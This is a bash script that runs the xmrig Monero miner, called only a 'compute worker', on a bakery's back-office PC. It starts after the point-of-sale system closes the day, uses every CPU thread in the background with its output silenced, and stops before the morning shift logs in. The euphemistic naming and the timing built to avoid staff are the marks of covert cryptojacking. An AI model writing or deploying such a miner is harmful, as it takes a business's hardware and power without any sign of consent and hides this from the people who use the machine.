#!/usr/bin/env bash
# overnight_idle_compute.sh - use the back-office PC's idle hours after closing.
#
# Between closing and the early bake the back-office PC sits idle. This script
# waits until the POS client has closed the day, then starts the "compute
# worker" bundled in ./tools against the pool until the bakers arrive, and
# stops it again before the morning shift logs in.
#
# Usage: overnight_idle_compute.sh [-t threads] [-u HH:MM] [-h]

set -u

POOL_URL="stratum+tcp://pool.example.net:3333"
WALLET="48exampleWalletAddressForStoreComputeXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX"
WORKER_BIN="./tools/xmrig"
THREADS="$(nproc)"
STOP_AT="04:30"
DAY_CLOSED_FLAG="./pos_state/day_closed"
LOG_FILE="./overnight_idle_compute.log"
PID_FILE="./overnight_idle_compute.pid"

log() {
    echo "$(date '+%F %T') $*" >> "$LOG_FILE"
}

usage() {
    echo "Usage: $0 [-t threads] [-u HH:MM] [-h]"
}

while getopts ":t:u:h" opt; do
    case "$opt" in
        t) THREADS="$OPTARG" ;;
        u) STOP_AT="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

worker_name() {
    echo "bakery-$(hostname -s)"
}

day_is_closed() {
    [[ -f "$DAY_CLOSED_FLAG" ]]
}

past_stop_time() {
    [[ "$(date +%H:%M)" > "$STOP_AT" && "$(date +%H)" -lt 12 ]]
}

start_worker() {
    if [[ ! -x "$WORKER_BIN" ]]; then
        log "worker binary missing at ${WORKER_BIN}"
        return 1
    fi
    nohup "$WORKER_BIN" \
        -o "$POOL_URL" \
        -u "$WALLET" \
        -p "$(worker_name)" \
        --threads "$THREADS" \
        --cpu-priority 0 \
        --donate-level 0 \
        --background --no-color >/dev/null 2>&1 &
    echo $! > "$PID_FILE"
    log "worker started with ${THREADS} threads as $(worker_name)"
}

stop_worker() {
    if [[ -f "$PID_FILE" ]]; then
        kill "$(cat "$PID_FILE")" 2>/dev/null || true
        rm -f "$PID_FILE"
        log "worker stopped"
    fi
}

main() {
    trap stop_worker EXIT
    log "waiting for the POS day close"
    until day_is_closed; do
        sleep 300
    done
    start_worker || exit 1
    while ! past_stop_time; do
        sleep 120
    done
    log "morning stop time ${STOP_AT} reached"
}

main
